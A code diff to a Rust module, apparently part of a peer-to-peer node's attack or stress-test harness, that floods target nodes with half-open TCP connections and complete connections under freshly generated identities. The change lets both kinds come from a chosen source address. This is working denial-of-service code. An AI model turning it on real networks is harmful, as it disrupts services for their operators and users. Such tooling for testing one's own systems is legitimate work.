@@ -1,6 +1,13 @@
 //! A flood of connections: half-open ones, which never finish the handshake, and complete ones under fresh identities.
 
-use std::{convert::Infallible, net::SocketAddr, pin::Pin, task::Poll, time::Duration};
+use std::{
+    convert::Infallible,
+    io,
+    net::{Ipv4Addr, SocketAddr},
+    pin::Pin,
+    task::Poll,
+    time::Duration,
+};
 
 use discovery::{Identity, Multiaddr};
 use libp2p::{
@@ -8,11 +15,15 @@ use libp2p::{
     core::{
         Endpoint,
         muxing::{StreamMuxer as _, StreamMuxerBox},
-        transport::{DialOpts, PortUse},
+        transport::{DialOpts, ListenerId, PortUse},
     },
     multiaddr::Protocol,
 };
-use tokio::{net::TcpStream, task::JoinSet, time};
+use tokio::{
+    net::{TcpSocket, TcpStream},
+    task::JoinSet,
+    time,
+};
 
 use super::{
     plan::{Attack, AttackPlan, Tally},
@@ -31,7 +42,7 @@ pub async fn flood(plan: &AttackPlan, tally: &Tally) -> anyhow::Result<Infallibl
     loop {
         let mut has_opened = false;
         for target in &plan.targets {
-            if let Some(muxer) = connect(target).await? {
+            if let Some(muxer) = connect(target, plan.from).await? {
                 tally.sent(Attack::Connections);
                 has_opened = true;
                 while complete.try_join_next().is_some() {}
@@ -41,7 +52,7 @@ pub async fn flood(plan: &AttackPlan, tally: &Tally) -> anyhow::Result<Infallibl
             } else {
                 tally.count(|deeds| deeds.thrown_out += 1);
             }
-            let tcp = async { TcpStream::connect(socket_of(target)?).await.ok() };
+            let tcp = async { open_half(socket_of(target)?, plan.from).await.ok() };
             if let Ok(Some(stream)) = time::timeout(PATIENCE, tcp).await {
                 tally.sent(Attack::Connections);
                 has_opened = true;
@@ -69,11 +80,22 @@ async fn hold(mut muxer: StreamMuxerBox) {
     .await;
 }
 
+/// A connection that stays without a handshake.
+async fn open_half(target: SocketAddr, from: Ipv4Addr) -> io::Result<TcpStream> {
+    let socket = TcpSocket::new_v4()?;
+    socket.bind((from, 0).into())?;
+    socket.connect(target).await
+}
+
 /// A complete connection under a fresh identity; `None` when it is refused.
-async fn connect(target: &Multiaddr) -> anyhow::Result<Option<StreamMuxerBox>> {
+async fn connect(target: &Multiaddr, from: Ipv4Addr) -> anyhow::Result<Option<StreamMuxerBox>> {
     let keypair = Identity::generate()?.keypair()?;
     let Ok(mut transport) = transport::build(&keypair) else { return Ok(None) };
-    let options = DialOpts { role: Endpoint::Dialer, port_use: PortUse::New };
+    // It is dialled from where it listens.
+    if transport.listen_on(ListenerId::next(), Multiaddr::from(from).with(Protocol::Tcp(0))).is_err() {
+        return Ok(None);
+    }
+    let options = DialOpts { role: Endpoint::Dialer, port_use: PortUse::Reuse };
     let Ok(dial) = transport.dial(target.clone(), options) else { return Ok(None) };
     // The transport must be driven while it dials; QUIC does not get anywhere otherwise.
     let driven = async {
